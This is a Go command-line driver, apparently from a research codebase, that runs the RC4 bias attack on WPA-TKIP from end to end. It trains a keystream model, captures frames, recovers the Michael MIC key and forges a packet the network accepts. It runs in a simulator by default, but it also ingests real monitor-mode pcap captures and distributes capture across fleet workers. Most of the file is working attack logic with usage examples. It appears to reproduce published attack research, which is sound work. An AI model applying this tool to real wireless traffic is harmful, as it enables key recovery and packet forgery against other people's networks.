// Command tkipattack runs the full §5 WPA-TKIP attack end to end in the
// in-process simulator: train the per-TSC model, make the victim transmit
// identical packets, capture and filter frames, compute per-position
// likelihoods, walk the ICV-pruned candidate list, and recover the Michael
// MIC key. It then demonstrates the impact by forging a packet the network
// accepts.
//
// Training and capture both persist: the model (the paper's 10-CPU-year
// artifact) is trained once and reloaded via -model, and captures are
// checkpointed shards that can be killed, resumed, and merged:
//
//	# train once, then capture a checkpointed shard
//	tkipattack -model tkip.model -copies 4718592 -seed 1 \
//	           -checkpoint shard1.snap -collect-only
//	# resume after a kill (same flags + -resume)
//	tkipattack -model tkip.model -copies 4718592 -seed 1 \
//	           -checkpoint shard1.snap -resume shard1.snap -collect-only
//	# second shard, then merge both and run the recovery phase
//	tkipattack -model tkip.model -copies 4718592 -seed 2 -checkpoint shard2.snap -collect-only
//	tkipattack -model tkip.model -copies 0 -merge shard1.snap,shard2.snap
//
// Online mode closes the loop: capture and decode interleave on a cadence,
// each round's candidates are verified by the Michael-MIC/ICV trailer
// oracle (with a test forgery confirming the recovered key against the
// network, §7.4), and the attack stops at the first confirmed trailer:
//
//	tkipattack -online                          # geometric cadence 2^20, 2^21, ...
//	tkipattack -online -decode-every 1048576    # decode every 2^20 frames
//
// Fleet-worker mode turns the driver into one capture node of a distributed
// run coordinated by cmd/fleetd (every worker must load the same trained
// model the coordinator uses):
//
//	tkipattack -fleet-worker coordinator:7100 -model tkip.model -worker-id m1
//
// Trace mode ingests monitor-mode captures instead of simulating the air —
// the §5.4 pipeline (radiotap/802.11 parsing, unique-length filtering, TSC
// de-duplication) over pcap/pcapng files — and -write-pcap produces such
// captures from the simulator (the round trip is pinned bitwise against
// in-process capture):
//
//	tkipattack -write-pcap tkip.pcap -copies 9437184
//	tkipattack -pcap tkip.pcap -copies 9437184 -model tkip.model
//	tkipattack -fleet-worker coordinator:7100 -model tkip.model -pcap 'shard-*.pcap'
package main

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"time"

	"rc4break/internal/cliutil"
	"rc4break/internal/job"
	"rc4break/internal/netsim"
	"rc4break/internal/online"
	"rc4break/internal/snapshot"
	"rc4break/internal/tkip"
	"rc4break/internal/trace"
)

func main() {
	keysPerTSC := flag.Uint64("trainkeys", 1<<12, "training keys per TSC class (paper: 2^32)")
	copies := flag.Uint64("copies", 9<<20, "total ciphertext copies this shard should hold, including resumed ones (paper: ~9.5 x 2^20 per hour); the online budget")
	maxDepth := flag.Int("maxdepth", 1<<20, "candidate list search bound (paper: nearly 2^30)")
	mode := flag.String("mode", "model", "capture mode: model (sampled from trained distributions) | exact (real frames; needs deep training)")
	seed := flag.Int64("seed", 1, "simulation seed; give independent shards different seeds")
	workers := flag.Int("workers", 0, "parallel workers for training, model-mode capture, and decoding (0 = GOMAXPROCS)")
	modelPath := flag.String("model", "", "model snapshot: loaded if the file exists, otherwise trained and saved there")
	checkpoint := flag.String("checkpoint", "", "capture snapshot written on completion; exact mode also writes it periodically and on Ctrl-C; online mode writes it after every decode round")
	checkpointEvery := flag.Uint64("checkpoint-every", 1<<20, "frames between periodic checkpoints in exact mode")
	resume := flag.String("resume", "", "capture snapshot to resume this shard from")
	merge := flag.String("merge", "", "comma-separated shard snapshots to merge into the capture pool after collection")
	collectOnly := flag.Bool("collect-only", false, "stop after capture (use with -checkpoint to produce a shard snapshot)")
	onlineMode := flag.Bool("online", false, "closed-loop mode: decode while capturing, stop at the first oracle-confirmed trailer")
	decodeEvery := flag.Uint64("decode-every", 0, "online: frames between decode attempts (0 = geometric cadence from -first-decode)")
	firstDecode := flag.Uint64("first-decode", 1<<20, "online: frames at the first decode attempt")
	maxPerRound := flag.Int("max-candidates-per-round", 0, "online: candidate walk depth per decode round (0 = -maxdepth)")
	fleetWorker := flag.String("fleet-worker", "", "join the cmd/fleetd coordinator at this address as a capture worker")
	workerID := flag.String("worker-id", "", "fleet worker name (default hostname-pid)")
	pcapIn := flag.String("pcap", "", "ingest frame evidence from monitor-mode capture files (comma-separated paths/globs, pcap or pcapng; streamed, never slurped); with -fleet-worker, serve exact-mode lanes from the files")
	writePcap := flag.String("write-pcap", "", "write the victim's frame stream (-copies frames) as a radiotap capture file and exit (.pcapng extension selects pcapng, else classic pcap)")
	jsonOut := flag.Bool("json", false, "append one machine-readable JSON result line to stdout")
	flag.Parse()

	if *writePcap != "" {
		// Writing the stream needs no trained model: frames are a pure
		// function of the demo session and the TSC sequence.
		if err := writeTKIPPcap(*writePcap, *copies); err != nil {
			fatal(err)
		}
		return
	}
	spec := job.Spec{Attack: "tkip", Mode: *mode, Seed: *seed, Workers: *workers}
	if *pcapIn != "" {
		var err error
		if spec.Traces, err = cliutil.ExpandGlobs(*pcapIn); err != nil {
			fatal(fmt.Errorf("-pcap: %w", err))
		}
	}

	// Shards must share one model: capture snapshots embed its fingerprint
	// and refuse to resume or merge under a different one.
	prefix := "[1/4]"
	model, err := job.LoadOrTrainModel(*modelPath, *keysPerTSC, *workers, func(format string, args ...interface{}) {
		fmt.Printf(prefix+" "+format+"\n", args...)
		prefix = "     "
	})
	if err != nil {
		fatal(err)
	}
	spec.Model = model

	if *fleetWorker != "" {
		// Model-mode lanes draw from the lane's derived seed; exact-mode
		// lanes replay the victim's TSC stream from the lane's absolute
		// offset (an O(1) skip), or carve it out of the -pcap trace shards.
		if err := spec.RunWorker(*fleetWorker, *workerID); err != nil {
			fatal(err)
		}
		return
	}
	if *onlineMode {
		if *collectOnly || *merge != "" {
			fatal(errors.New("-online composes with -checkpoint/-resume; -merge and -collect-only are offline-pool workflows"))
		}
		if spec.Traces != nil {
			fatal(errors.New("-online captures live; -pcap is an offline/fleet ingest path"))
		}
	}

	var evidence []byte
	if *resume != "" {
		if evidence, err = os.ReadFile(*resume); err != nil {
			fatal(fmt.Errorf("resume %s: %w", *resume, err))
		}
	}
	rt, err := job.New(spec, evidence)
	if err != nil {
		fatal(err)
	}
	if *resume != "" {
		fmt.Printf("      resumed %s: %d captured frames\n", *resume, rt.Observed())
	}
	attack := rt.Decoder.(*tkip.Attack)
	oracle := rt.Oracle.(*tkip.TrailerOracle)

	if *onlineMode {
		depth := *maxPerRound
		if depth <= 0 {
			depth = *maxDepth
		}
		runOnline(rt, *mode, *copies,
			online.Cadence{First: *firstDecode, Every: *decodeEvery},
			depth, *checkpoint, *checkpointEvery, *jsonOut)
		return
	}

	var remaining uint64
	if *copies > attack.Frames {
		remaining = *copies - attack.Frames
	}
	displayMode := *mode
	if spec.Traces != nil {
		displayMode = "trace"
	}
	fmt.Printf("[2/4] capturing %d encryptions of the injected packet (%s mode)...\n", remaining, displayMode)
	start := time.Now()
	if remaining == 0 {
		fmt.Println("      shard target already reached by resumed capture")
	} else if err := rt.Checkpointed(*checkpoint, *checkpointEvery)(*copies); err != nil {
		fatal(err)
	}
	if summary := rt.Summary(); summary != "" {
		fmt.Printf("      %s\n", summary)
	}
	collectTime := time.Since(start)
	fmt.Printf("      captured in %v (shard frames: %d; live air time at %d pps: %.1f h)\n",
		collectTime.Round(time.Millisecond), attack.Frames, netsim.TKIPInjectionPerSecond,
		float64(attack.Frames)/netsim.TKIPInjectionPerSecond/3600)

	if *checkpoint != "" {
		if err := rt.SaveFile(*checkpoint); err != nil {
			fatal(err)
		}
		fmt.Printf("      snapshot -> %s\n", *checkpoint)
	}

	// Shards that captured the same stream (same mode and seed) hold the
	// same observations; merging them would double-count evidence.
	seenStreams := make(map[snapshot.StreamInfo]string)
	if attack.Frames > 0 && attack.Stream != (snapshot.StreamInfo{}) {
		seenStreams[attack.Stream] = "this shard"
	}
	for _, path := range cliutil.SplitList(*merge) {
		shard, err := tkip.ReadAttackSnapshotFile(path, model)
		if err != nil {
			fatal(fmt.Errorf("merge %s: %w", path, err))
		}
		if shard.Stream != (snapshot.StreamInfo{}) {
			if prev, dup := seenStreams[shard.Stream]; dup {
				fatal(fmt.Errorf("merge %s: same capture stream (%s/seed %d) as %s — its frames would be double-counted",
					path, shard.Stream.Mode, shard.Stream.Seed, prev))
			}
			seenStreams[shard.Stream] = path
		}
		if err := attack.Merge(shard); err != nil {
			fatal(fmt.Errorf("merge %s: %w", path, err))
		}
		fmt.Printf("      merged %s: +%d frames (pool now %d)\n", path, shard.Frames, attack.Frames)
	}

	if *collectOnly {
		fmt.Println("      collect-only: skipping recovery phase")
		return
	}

	fmt.Printf("[3/4] decrypting trailer via ICV-pruned candidate list (depth <= %d)...\n", *maxDepth)
	start = time.Now()
	micKey, depth, err := attack.RecoverTrailer(oracle.DA, oracle.SA, oracle.MSDU, *maxDepth)
	recoverTime := time.Since(start)
	result := cliutil.RunResult{
		Attack:       "tkip",
		Mode:         displayMode,
		Success:      err == nil,
		Rank:         depth,
		Observations: attack.Frames,
		CaptureMS:    float64(collectTime.Microseconds()) / 1000,
		// RecoverTrailer interleaves decoding with the ICV oracle, so the
		// offline path reports their combined time as decode.
		DecodeMS:  float64(recoverTime.Microseconds()) / 1000,
		ElapsedMS: float64((collectTime + recoverTime).Microseconds()) / 1000,
	}
	if err != nil {
		result.Error = err.Error()
		fmt.Printf("      attack failed: %v (try more copies or deeper search)\n", err)
		emitJSON(*jsonOut, result)
		os.Exit(1)
	}
	result.Plaintext = fmt.Sprintf("%x", micKey[:])
	fmt.Printf("      correct-ICV candidate at list position %d (%v)\n", depth, recoverTime.Round(time.Millisecond))
	fmt.Printf("      recovered MIC key: %x\n", micKey)
	if micKey == tkip.DemoSession().MICKey {
		fmt.Println("      MIC key matches the real key")
	} else {
		fmt.Println("      WARNING: recovered key does not match (ICV collision, as §5.4 observed once)")
	}

	forgeDemo(oracle.MSDU, micKey, "[4/4]")
	emitJSON(*jsonOut, result)
}

// forgeDemo demonstrates impact: a packet forged under the recovered MIC
// key must be accepted by the network.
func forgeDemo(msdu []byte, micKey [8]byte, phase string) {
	fmt.Printf("%s forging a packet with the recovered MIC key...\n", phase)
	session := tkip.DemoSession()
	attacker := &tkip.Session{TK: session.TK, MICKey: micKey, TA: session.TA, DA: session.DA, SA: session.SA}
	forged := attacker.Encapsulate(msdu, 0xF00D)
	if _, err := session.Decapsulate(forged); err != nil {
		fmt.Printf("      forgery rejected: %v\n", err)
		os.Exit(1)
	}
	fmt.Println("      forged packet accepted by the network — attack complete")
}

// runOnline drives the §5.3 closed loop: capture frames to the next cadence
// point, compute likelihoods, walk the lazy best-first candidate list
// against the Michael-MIC/ICV trailer oracle (with a network-forgery
// confirmation of the recovered key), and stop at the first confirmed
// trailer. Decode points are absolute frame counts, so a checkpointed run
// killed and resumed continues on exactly the cadence an uninterrupted run
// would use.
func runOnline(rt *job.Runtime, mode string, budget uint64, cad online.Cadence, depth int, checkpoint string, checkpointEvery uint64, jsonOut bool) {
	if budget <= rt.Observed() {
		fatal(fmt.Errorf("online: budget %d already reached by resumed capture (%d frames)", budget, rt.Observed()))
	}
	oracle := rt.Oracle.(*tkip.TrailerOracle)
	fmt.Printf("[2/4] online closed loop: budget %d frames, first decode at %d, %s cadence, %d candidates/round...\n",
		budget, cad.First, cad, depth)
	res, err := online.Run(online.Config{
		Decoder:       rt.Decoder,
		Oracle:        oracle,
		Cadence:       cad,
		MaxCandidates: depth,
		Budget:        budget,
		Feed:          online.FeedFunc(rt.Checkpointed(checkpoint, checkpointEvery)),
		Checkpoint:    cliutil.OnlineCheckpoint(checkpoint, rt.Unit, rt.SaveFile, rt.Observed),
		Logf:          cliutil.IndentLogf,
	})
	if errors.Is(err, cliutil.ErrInterrupted) {
		fatal(err)
	}
	if err != nil {
		fmt.Printf("      online attack failed: %v (budget %d frames; try a deeper walk or a larger budget)\n", err, budget)
		emitJSON(jsonOut, cliutil.OnlineRunResult("tkip", mode, res, err))
		os.Exit(1)
	}
	if checkpoint != "" {
		if err := rt.SaveFile(checkpoint); err != nil {
			fatal(err)
		}
	}
	saved := budget - res.Observed
	fmt.Printf("[3/4] online success: correct trailer at rank %d after %d frames — %d under the %d budget (%.1f h of injection saved)\n",
		res.Rank, res.Observed, saved, budget, float64(saved)/netsim.TKIPInjectionPerSecond/3600)
	fmt.Printf("      %d decode rounds, %d oracle checks (+%d cache-skipped, %d ICV passes), wall-clock %v (capture %v, decode %v, oracle %v)\n",
		res.Rounds, res.Checks, res.Skipped, oracle.ICVPasses,
		res.Elapsed.Round(time.Millisecond), res.CaptureTime.Round(time.Millisecond),
		res.DecodeTime.Round(time.Millisecond), res.OracleTime.Round(time.Millisecond))
	fmt.Printf("      recovered MIC key: %x\n", oracle.MICKey)
	if oracle.MICKey == tkip.DemoSession().MICKey {
		fmt.Println("      MIC key matches the real key")
	}
	forgeDemo(oracle.MSDU, oracle.MICKey, "[4/4]")
	jres := cliutil.OnlineRunResult("tkip", mode, res, nil)
	jres.Plaintext = fmt.Sprintf("%x", oracle.MICKey[:])
	emitJSON(jsonOut, jres)
}

// emitJSON writes the machine-readable result as the final stdout line
// when -json is set.
func emitJSON(enabled bool, r cliutil.RunResult) {
	if err := r.Emit(enabled); err != nil {
		fatal(err)
	}
}

// writeTKIPPcap writes n frames of the demo victim's stream as a
// monitor-mode radiotap capture — the sim → pcap half of the round trip,
// and the way trace shards for offline or fleet ingest are produced. The
// extension picks the container: .pcapng writes pcapng, else classic pcap.
func writeTKIPPcap(path string, n uint64) error {
	session := tkip.DemoSession()
	victim := netsim.NewWiFiVictim(session, tkip.DemoPayload)
	pw, done, err := trace.CreateFile(path, trace.LinkTypeRadiotap)
	if err != nil {
		return err
	}
	fw, err := netsim.NewFrameWriter(pw, trace.LinkTypeRadiotap, session)
	if err != nil {
		done()
		return err
	}
	fmt.Printf("[1/1] writing %d frames of the victim's TKIP stream -> %s\n", n, path)
	if err := victim.WriteTrace(fw, n); err != nil {
		done()
		return err
	}
	if err := done(); err != nil {
		return err
	}
	info, err := os.Stat(path)
	if err != nil {
		return err
	}
	fmt.Printf("      %d frames, %.1f MB\n", n, float64(info.Size())/(1<<20))
	return nil
}

// fatal exits 1 on err, or 130 on an interrupted capture (whose checkpoint
// flush the capture loop already reported).
func fatal(err error) {
	if errors.Is(err, cliutil.ErrInterrupted) {
		os.Exit(130)
	}
	fmt.Fprintln(os.Stderr, "tkipattack:", err)
	os.Exit(1)
}
